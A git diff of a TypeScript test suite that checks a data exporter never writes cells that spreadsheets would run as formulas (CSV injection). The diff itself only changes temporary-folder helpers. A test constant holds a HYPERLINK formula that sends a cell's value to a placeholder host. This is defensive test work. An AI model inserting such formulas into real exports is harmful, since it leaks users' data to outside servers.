@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { after, describe, it } from 'node:test';
+import { describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
@@ -9,7 +9,7 @@ import { exportHarvest } from '../../server/src/node/harvest-export';
 import { importWorkbookFile } from '../../server/src/node/harvest-import';
 import { looksLikeFormula } from '../../server/src/workbook/formula-guard';
 import { readExample, service } from './helpers';
-import { temporaryFolders } from './temporary-folders';
+import { temporaryFolder } from '../temporary-folders';
 
 /** The texts of issue 24: what Excel and LibreOffice would run as formulas (OWASP's CSV injection). */
 const DESCRIPTION = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
@@ -32,9 +32,6 @@ function hostileFragment(): string {
   return lines;
 }
 
-const folders = temporaryFolders();
-after(() => folders.removeAll());
-
 /** Every cell a real CSV reader (csv-parse, without our guard's undoing) finds in a file we wrote. */
 function outsideCsvCells(path: string): string[] {
   const text = readFileSync(path, 'utf8').replace(/^\uFEFF/, '');
@@ -44,7 +41,7 @@ function outsideCsvCells(path: string): string[] {
 const isNumber = (cell: string) => cell !== '' && String(Number(cell)) === cell;
 
 describe('nothing exported runs as a formula (FORMAT.md §6)', () => {
-  const folder = folders.make('fragments-formulas-');
+  const folder = temporaryFolder('fragments-formulas-');
   const harvest = join(folder, 'harvest');
   mkdirSync(harvest);
   writeFileSync(join(harvest, 'row_1.txt'), hostileFragment());
